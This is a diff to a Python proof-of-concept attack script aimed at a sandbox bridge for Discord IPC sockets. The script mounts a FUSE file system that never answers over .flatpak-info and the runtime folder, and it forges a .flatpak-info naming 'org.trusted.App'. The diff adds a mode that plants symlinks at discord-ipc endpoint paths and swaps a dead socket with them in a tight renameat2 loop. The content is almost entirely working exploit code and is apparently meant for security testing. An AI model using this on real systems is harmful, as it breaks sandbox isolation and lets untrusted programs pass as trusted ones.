@@ -1,7 +1,8 @@
 """
 Attacks the bridge from a sandbox whose programs may mount: connects to the endpoint in the folder sys.argv[1] while a FUSE file
 system that never answers comes and goes over .flatpak-info and the runtime folder, and from processes that have it as their root
-folder, their working folder and below an overlay.
+folder, their working folder and below an overlay. With the argument `links` it puts links to that file system at the paths of
+endpoints instead, one of them in turn with a dead socket.
 """
 
 import ctypes
@@ -14,6 +15,7 @@ import time
 
 MS_RDONLY, MS_NOSUID, MS_NODEV, MS_REMOUNT, MS_BIND = 1, 2, 4, 32, 4096
 MNT_DETACH, CLONE_NEWNS = 2, 0x20000
+AT_FDCWD, RENAME_EXCHANGE, PR_SET_PDEATHSIG = -100, 2, 1
 FUSE_GETATTR, FUSE_STATFS, FUSE_INIT = 3, 17, 26
 ENOSYS = 38
 CONNECTS = 24
@@ -35,6 +37,8 @@ def mount(source, target, kind=None, flags=0, options=None):
 def in_process(task):
     child = os.fork()
     if child == 0:
+        # Outside of a PID namespace nothing else ends it with the sandbox.
+        libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
         try:
             task()
         except BaseException as error:
@@ -120,11 +124,28 @@ def flap():
             check(libc.umount2(over, MNT_DETACH))
 
 
+def lead_astray(path):
+    """Puts links to a path at discord-ipc-1 beside the folder and, in turn with a dead socket, at discord-ipc-0 in it."""
+    os.fchdir(box)
+    os.symlink(path, "../discord-ipc-1")
+    os.symlink(path, "link")
+    socket.socket(socket.AF_UNIX).bind("dead")
+    os.rename("dead", "discord-ipc-0")
+    print("linked", flush=True)
+    while True:
+        check(libc.renameat2(AT_FDCWD, b"discord-ipc-0", AT_FDCWD, b"link", RENAME_EXCHANGE))
+
+
 box = os.open(sys.argv[1], os.O_PATH | os.O_DIRECTORY)
 open("/tmp/file", "w").close()
 os.mkdir("/tmp/folder")
 os.mkdir("/tmp/empty")
 servers = [slow(b"/tmp/file", 0o100644), slow(b"/tmp/folder", 0o40755)]
+if "links" in sys.argv:
+    time.sleep(1)
+    for server in servers:
+        os.kill(server, signal.SIGUSR1)
+    lead_astray(f"/proc/{os.getpid()}/root/tmp/folder/socket")
 # Nothing can be mounted over a file without a name, such as that of --ro-bind-data.
 with open("/tmp/info", "w") as info:
     info.write("[Application]\nname=org.trusted.App\n")
